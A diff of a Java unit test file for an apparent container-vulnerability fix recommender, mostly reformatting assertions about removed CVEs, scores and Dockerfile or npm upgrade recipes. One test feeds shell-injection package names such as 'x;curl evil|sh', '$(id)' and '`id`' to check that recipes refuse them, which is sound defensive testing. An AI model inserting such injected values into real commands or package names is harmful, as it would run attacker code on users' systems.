@@ -41,7 +41,9 @@ class FixesTest {
     assertThat(fix.effect().removedBySeverity())
         .isEqualTo(Map.of(Severity.CRITICAL, 1L, Severity.HIGH, 2L));
     assertThat(fix.effect().exploitedRemoved()).isEqualTo(1);
-    assertThat(fix.effect().remaining()).extracting(VulnerablePackage::flaw).containsExactly("CVE-3");
+    assertThat(fix.effect().remaining())
+        .extracting(VulnerablePackage::flaw)
+        .containsExactly("CVE-3");
     assertThat(fix.effect().score()).isEqualTo(140);
     assertThat(fix.recipes())
         .containsExactly(
@@ -131,17 +133,20 @@ class FixesTest {
             List.of(finding(newer, "CVE-2", Severity.LOW, "", 10), brought));
     List<Fix> fixes = Fixes.of(List.of(gone, stays, ours), Optional.of(move));
     Fix.MoveBase base = only(Fix.MoveBase.class, fixes);
-    assertThat(base.effect()).isEqualTo(new Effect(List.of(gone), List.of(stays), List.of(brought)));
+    assertThat(base.effect())
+        .isEqualTo(new Effect(List.of(gone), List.of(stays), List.of(brought)));
     assertThat(base.effect().score()).isEqualTo(45);
     assertThat(base.recipes()).containsExactly(new Recipe("Dockerfile", "FROM " + DEBIAN));
-    assertThat(flaws(only(Fix.NoFixYet.class, fixes).effect().remaining())).containsExactly("CVE-2");
+    assertThat(flaws(only(Fix.NoFixYet.class, fixes).effect().remaining()))
+        .containsExactly("CVE-2");
   }
 
   @Test
   void shouldNotProposeABaseThatRemovesNothing() {
     VulnerablePackage stays = finding(OPENSSL, "CVE-2", Severity.LOW, "", 10);
     BaseMove move = new BaseMove("debian:12", 2, DEBIAN, List.of(stays));
-    assertThat(Fixes.of(List.of(stays), Optional.of(move))).hasOnlyElementsOfType(Fix.NoFixYet.class);
+    assertThat(Fixes.of(List.of(stays), Optional.of(move)))
+        .hasOnlyElementsOfType(Fix.NoFixYet.class);
   }
 
   @Test
@@ -180,7 +185,8 @@ class FixesTest {
 
   @Test
   void shouldWriteDownNothingThatAShellReadsAsMoreThanAWord() {
-    for (String name : List.of("x;curl evil|sh", "$(id)", "-rf", "a b", "a'b", "a\nb", "`id`", "*")) {
+    for (String name :
+        List.of("x;curl evil|sh", "$(id)", "-rf", "a b", "a'b", "a\nb", "`id`", "*")) {
       Package p = npm(name, "1.0.0", 1);
       assertThat(Recipes.upgrade(p, "1.0.1")).as(name).isEmpty();
       assertThat(Recipes.upgrade(npm("x", "1.0.0", 1), name)).as(name).isEmpty();
@@ -258,8 +264,7 @@ class FixesTest {
     return of("npm", "", name, version, layer);
   }
 
-  private static Package of(
-      String type, String namespace, String name, String version, int layer) {
+  private static Package of(String type, String namespace, String name, String version, int layer) {
     return new Package(
         name,
         version,
